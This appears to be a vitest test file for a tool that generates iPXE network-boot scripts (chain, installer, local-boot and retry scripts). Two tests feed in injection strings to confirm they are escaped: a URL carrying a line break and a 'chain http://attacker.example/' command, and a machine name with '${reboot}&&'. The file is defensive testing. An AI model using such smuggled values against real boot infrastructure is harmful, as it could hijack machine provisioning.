import { describe, expect, it } from 'vitest';
import { expectGolden } from '../../test/support/golden.js';
import { chainScript, claimedScript, installerScript, ipxeUrl, localBootScript, notEnrolledScript, retryLaterScript, unidentifiedScript } from './ipxe.js';

describe('iPXE scripts', () => {
  it('chain script', () => expectGolden('ipxe/chain.ipxe', chainScript('http://10.0.2.2:7708', 'n0nce')));
  it('installer script', () =>
    expectGolden(
      'ipxe/installer.ipxe',
      installerScript({
        machineName: 'brisk-heron-3f7a',
        runKind: 'inspect',
        kernelUrl: 'http://10.0.2.2:7708/boot/installer/vmlinuz?attempt=A',
        initrdUrl: 'http://10.0.2.2:7708/boot/installer/initrd.img?attempt=A',
        cmdline: 'plinth.url=http://10.0.2.2:7708 plinth.run=R plinth.token=T console=ttyS0,115200n8',
      }),
    ));
  it('installer script from a site cache, the controller as fallback of each file', () =>
    expectGolden(
      'ipxe/installer-site-cache.ipxe',
      installerScript({
        machineName: 'brisk-heron-3f7a',
        runKind: 'deploy',
        kernelUrl: 'http://10.2.0.5:7709/files/aa/vmlinuz?run=R&expires=1&sig=S',
        initrdUrl: 'http://10.2.0.5:7709/files/bb/initrd.img?run=R&expires=1&sig=S',
        fallback: { kernelUrl: 'http://10.0.2.2:7708/boot/installer/vmlinuz?attempt=A', initrdUrl: 'http://10.0.2.2:7708/boot/installer/initrd.img?attempt=A' },
        cmdline: 'plinth.url=http://10.0.2.2:7708 plinth.run=R plinth.token=T',
      }),
    ));
  it('local boot script', () => expectGolden('ipxe/local.ipxe', localBootScript('brisk-heron-3f7a', 'it is available')));
  it('unidentified script', () => expectGolden('ipxe/unidentified.ipxe', unidentifiedScript('no usable UUID, serial, asset tag or MAC address was sent')));
  it('retry-later script', () => expectGolden('ipxe/retry-later.ipxe', retryLaterScript('http://10.0.2.2:7708', 'database unreachable')));
  it('percent-encodes in URLs what iPXE would read: spaces, ${…}, line breaks', () => {
    const hostile = 'http://10.0.2.2:7708/x ${net0/mac}\nchain http://attacker.example/';
    expect(ipxeUrl('http://10.0.2.2:7708/files/a.img?x=1&y=2')).toBe('http://10.0.2.2:7708/files/a.img?x=1&y=2');
    for (const script of [chainScript(hostile, 'n'), retryLaterScript(hostile, 'why')]) {
      expect(script).toContain('http://10.0.2.2:7708/x%20%24%7Bnet0/mac%7D%0Achain%20http://attacker.example/');
      expect(script).not.toMatch(/^chain http:\/\/attacker/m);
    }
  });
  it('claimed-run script: no ticket, wait and ask again', () => expectGolden('ipxe/claimed.ipxe', claimedScript('http://10.0.2.2:7708', 'brisk-heron-3f7a')));
  it('not-enrolled script', () => expectGolden('ipxe/not-enrolled.ipxe', notEnrolledScript('this controller does not enrol unknown machines')));
  it('keeps machine-chosen text from breaking the script', () =>
    expectGolden('ipxe/local-hostile-name.ipxe', localBootScript('x${reboot}&&', 'why || goto x')));
});
